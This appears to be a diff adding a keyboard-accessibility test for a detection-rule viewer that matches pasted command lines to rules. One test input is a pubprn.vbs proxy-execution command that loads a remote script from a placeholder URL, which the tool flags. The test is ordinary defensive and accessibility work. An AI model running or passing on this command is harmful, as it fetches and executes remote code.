@@ -1,0 +1,50 @@
+// Everything can be done without a pointer.
+import assert from 'node:assert/strict';
+import { journey } from './journey.mjs';
+import { events, headline } from './states.mjs';
+
+const focused = (page) => page.evaluate(() => document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent.trim());
+
+/** Presses Tab until what is focused is called this. */
+async function tabTo(page, name) {
+  for (let presses = 0; presses < 60; presses++) {
+    await page.keyboard.press('Tab');
+    if (name.test(await focused(page))) return;
+  }
+  assert.fail(`Tab never reaches ${name}; it is on ${await focused(page)}`);
+}
+
+journey('a walk by keyboard: text, list, detail, rules', async (page) => {
+  await tabTo(page, /^Events: command lines/);
+  await page.keyboard.insertText('ipconfig\ncscript C:\\x\\pubprn.vbs a script:http://b\nC:\\Windows\\notepad.exe x.txt');
+  await headline(page, '1 of 3 events matches');
+
+  await tabTo(page, /^Events\. Enter reads the detail/);
+  const active = () => events(page).evaluate((list) => document.getElementById(list.getAttribute('aria-activedescendant')).innerText);
+  assert.match(await active(), /pubprn/);
+  await page.keyboard.press('Home');
+  assert.match(await active(), /ipconfig/);
+  await page.keyboard.press('End');
+  assert.match(await active(), /notepad/);
+  await page.keyboard.press('ArrowUp');
+  assert.match(await active(), /pubprn/);
+  await page.keyboard.press('Enter');
+  assert.equal(await focused(page), 'Line 2');
+
+  await tabTo(page, /^Pubprn\.vbs Proxy Execution$/);
+  await page.keyboard.press('Enter');
+  await page.getByRole('button', { name: 'Pubprn.vbs Proxy Execution', expanded: false }).waitFor();
+  await page.keyboard.press('Enter');
+  await tabTo(page, /^Open the rule$/);
+  await page.keyboard.press('Enter');
+  await page.getByRole('region', { name: 'Text of the rule' }).waitFor();
+});
+
+journey('the dialog keeps the keyboard and gives it back', async (page) => {
+  await tabTo(page, /^About$/);
+  await page.keyboard.press('Enter');
+  await page.getByRole('dialog', { name: 'About Cutout' }).waitFor();
+  await page.keyboard.press('Escape');
+  await page.getByRole('dialog').waitFor({ state: 'detached' });
+  assert.equal(await focused(page), 'About');
+});
